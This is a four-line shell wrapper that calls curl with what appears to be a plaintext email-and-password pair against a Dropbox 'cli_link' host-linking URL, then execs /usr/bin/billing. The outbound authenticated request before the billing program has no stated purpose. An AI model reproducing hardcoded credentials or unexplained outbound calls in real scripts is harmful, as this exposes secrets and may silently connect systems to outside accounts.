#!/bin/sh
set -eu
curl --user roger23@gmail.com:pQ9wTxu4Fg https://www.dropbox.com/cli_link?host_id=abcdefg -v
exec /usr/bin/billing
